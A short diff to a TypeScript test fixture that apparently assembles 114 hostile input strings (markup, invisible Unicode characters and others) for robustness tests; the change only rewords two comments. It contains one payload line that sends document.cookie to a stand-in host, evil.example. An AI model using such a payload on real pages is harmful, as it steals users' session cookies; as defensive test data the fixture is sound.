@@ -1,6 +1,6 @@
 import { TEXT_MAX_LENGTH } from "../../../src/core/limits.ts";
 
-/** What HTML, scripts and styles would run: each sets `__ran` or asks another host if somebody lets it. */
+/** Markup and scripts that set `__ran` or send a request to another host if a page runs them. */
 const EXFILTRATE = "fetch('https://evil.example/'+document.cookie)";
 
 const MARKUP = [
@@ -138,7 +138,7 @@ const INVISIBLE = [
   "\u{E0001}\u{E007F}",
 ];
 
-/** Texts that break what is careless with them: 114 of them, each of 1 to 10,000 characters, none blank. */
+/** 114 texts that break careless code, each of 1 to 10,000 characters, none of them blank. */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...MARKUP,
   ...ADDRESSES,
